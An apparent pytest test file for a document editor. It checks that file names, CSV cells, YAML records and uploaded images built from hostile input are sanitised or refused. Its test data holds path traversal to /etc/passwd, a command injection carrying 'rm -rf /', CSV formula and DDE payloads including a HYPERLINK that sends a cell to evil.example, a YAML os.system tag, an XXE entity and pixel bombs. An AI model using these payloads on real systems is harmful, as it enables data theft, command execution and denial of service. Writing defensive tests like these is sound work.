"""Names of files made of titles, cells of tables, records that people write, pictures by any name."""

import csv
import io
import struct
import zlib

import pytest

from editor import house_style, template
from editor.article import Fields
from editor.csv_text import to_csv
from editor.export.file_name import MOST_BYTES, file_name
from editor.record import read
from editor.refusal import Refused
from editor.text.normalise import clean, decode
from editor.text.pictures import inspect

# To add one: what it is (the name of its row in README.md) and the title.
TITLES: dict[str, str] = {
    "a way out": "../../../etc/passwd",
    "a way out on Windows": "..\\..\\windows\\system32\\x",
    "NUL in a name": "bài\0.exe",
    "a device": "CON",
    "a device with an ending": "aux.txt",
    "a device with a small number": "COM¹",
    "a device with a blank": "LPT1 .md",
    "dots and blanks at the end": "bài . . .",
    "a name that turns round": "bài\u202egnp.exe",
    "five hundred letters": "ờ" * 500,
    "three hundred faces": "👩‍👩‍👧" * 300,
    "only slashes": "////",
    "an option": "-rf --no-preserve-root",
    "a hidden file": ".htaccess",
    "a stream": "bài.txt:stream:$DATA",
    "two lines": "bài\nrm -rf /",
    "signs without width": "b\u200bà\ufeffi",
    "half a letter in a name": "b\ud800i",
}
_DEVICES = {"con", "prn", "aux", "nul", *(f"{name}{n}" for name in ("com", "lpt") for n in "123456789¹²³")}


@pytest.mark.parametrize("name", TITLES)
def test_a_name_is_one_of_a_file_in_this_folder(name: str) -> None:
    made = file_name(Fields(headline=TITLES[name]), "docx")
    assert made.endswith(".docx")
    assert made != ".docx"
    assert len(made.encode()) <= MOST_BYTES
    assert not set(made) & set('/\\:*?"<>|\0\n\r\u202e\u200b\ufeff')
    assert made[0] not in ".- "
    assert made.partition(".")[0].strip().casefold() not in _DEVICES


# To add one: what it is (the name of its row in README.md) and the cell.
CELLS: dict[str, str] = {
    "a sum": "=1+1",
    "a plus": "+1+1",
    "a minus": "-1+1",
    "an at": "@SUM(A1)",
    "a tab before it": "\t=1+1",
    "a return before it": "\r=1+1",
    "a wide sign": "＝1+1",
    "a sign without width before it": "\u200b=1+1",
    "a blank before it": "  =1+1",
    "a mark of byte order before it": "\ufeff=1+1",
    "a link of a cell": '=HYPERLINK("https://evil.example/?"&A1;"x")',
    "a program of a cell": "=cmd|' /C calc'!A0",
    "a cell that ends itself": '";=1+1;"',
    "a sum on a line of its own": 'x"\n=1+1',
}


@pytest.mark.parametrize("name", CELLS)
def test_no_cell_is_calculated(name: str) -> None:
    rows = list(csv.reader(io.StringIO(to_csv(["a"], [[CELLS[name], "end"]]).decode("utf-8-sig"))))
    assert [len(row) for row in rows] == [1, 2]
    assert rows[1][1] == "end"
    assert rows[1][0].lstrip("\u200b \t\r\n\ufeff")[:1] not in "=+-@＝"


# To add one: what it is (the name of its row in README.md) and the YAML.
RECORDS: dict[str, str] = {
    "a thousand million laughs": "a: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]\n",
    "a tag of Python": "a: !!python/object/apply:os.system ['true']\n",
    "a merge of keys": "a: &a {b: 1}\nc:\n  <<: *a\n",
    "a thousand levels": "a: " + "[" * 1_000 + "]" * 1_000 + "\n",
    "a million characters": "a: " + "x" * 1_000_000 + "\n",
    "a list at the top": "- a\n- b\n",
    "a bracket without an end": "a: [1\n",
    "a tab for a blank": "a:\n\t- b\n",
}


@pytest.mark.parametrize("name", RECORDS)
def test_a_record_is_refused_with_its_line(name: str) -> None:
    for door in (lambda source: read(source, "x.yaml"), lambda source: house_style.read(source, "x.yaml")):
        with pytest.raises(Refused):
            door(RECORDS[name])
    with pytest.raises(Refused):
        template.read(f"---\n{RECORDS[name]}---\n\nText.\n", "x.en.md")


def png(width: int, height: int, more: bytes = b"") -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + more + chunk(b"IEND", b"")


# To add one: what it is (the name of its row in README.md) and the bytes.
PICTURES: dict[str, bytes] = {
    "a bomb of pixels": png(60_000, 60_000),
    "no pixels": png(0, 0),
    "more pixels than numbers": png(2**31 - 1, 2**31 - 1),
    "a drawing that fetches": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/x"/></svg>',
    "a drawing with an entity": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    "a page called a picture": b"<html><script>alert(1)</script></html>",
    "a program called a picture": b"MZ\x90\x00" + bytes(200),
    "an archive called a picture": b"PK\x03\x04" + bytes(200),
    "a photograph cut short": b"\xff\xd8\xff\xe0\x00\x10JFIF",
    "a moving picture cut short": b"GIF89a\xff",
    "a picture of another kind": b"II*\x00" + bytes(100),
    "nothing at all": b"",
}


@pytest.mark.parametrize("name", PICTURES)
def test_what_is_no_picture_of_ours_is_refused(name: str) -> None:
    with pytest.raises(Refused, match=r"x\.png"):
        inspect(PICTURES[name], "x.png")


# To add one: what it is (the name of its row in README.md) and the bytes of the file.
FILES: dict[str, bytes] = {
    "bytes of no encoding": b"\xff\xfe\xfd\xfc\x80\x81",
    "an old encoding": "Tiếng Việt".encode("cp1258", "ignore") + b"\x81\x8d",
    "half a letter in a file": "a".encode("utf-16-le") + b"\x00\xd8",
    "a program called a text": b"\x7fELF" + bytes(range(256)),
}


@pytest.mark.parametrize("name", FILES)
def test_a_file_is_read_clean_or_refused(name: str) -> None:
    try:
        text = clean(decode(FILES[name], "x.md")).text
    except Refused:
        return
    assert not any(ord(sign) < 32 and sign not in "\t\n" for sign in text)
    assert not any(0xD800 <= ord(sign) < 0xE000 for sign in text)
